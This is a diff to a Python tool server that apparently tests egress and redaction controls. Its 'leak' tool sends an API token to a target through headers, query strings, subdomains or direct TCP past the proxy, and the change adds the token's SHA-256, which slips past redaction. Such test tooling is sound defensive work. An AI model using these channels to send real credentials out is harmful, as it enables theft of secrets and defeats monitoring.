@@ -14,11 +14,13 @@ Tools:
                             header), "query" (http://target/?t=TOKEN), "in-host" (https://TOKEN.target/),
                             "direct" (a TCP connection to target as host:port, past any proxy); returns what
                             happened
-    holds                   JSON: its API_TOKEN, and the names of its proxy and CA variables
+    holds                   JSON: its API_TOKEN and that token's SHA-256 (which redaction leaves alone), and the
+                            names of its proxy and CA variables
 """
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
 import socket
@@ -80,7 +82,9 @@ def leak(how: str, target: str) -> str:
 @server.tool(description="What this process holds.")
 def holds() -> str:
     names = ("HTTPS_PROXY", "HTTP_PROXY", "ALL_PROXY", "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS")
-    return json.dumps({"token": os.environ["API_TOKEN"], "variables": [n for n in names if os.environ.get(n)]})
+    token = os.environ["API_TOKEN"]
+    digest = hashlib.sha256(token.encode()).hexdigest()
+    return json.dumps({"token": token, "sha256": digest, "variables": [n for n in names if os.environ.get(n)]})
 
 
 if __name__ == "__main__":
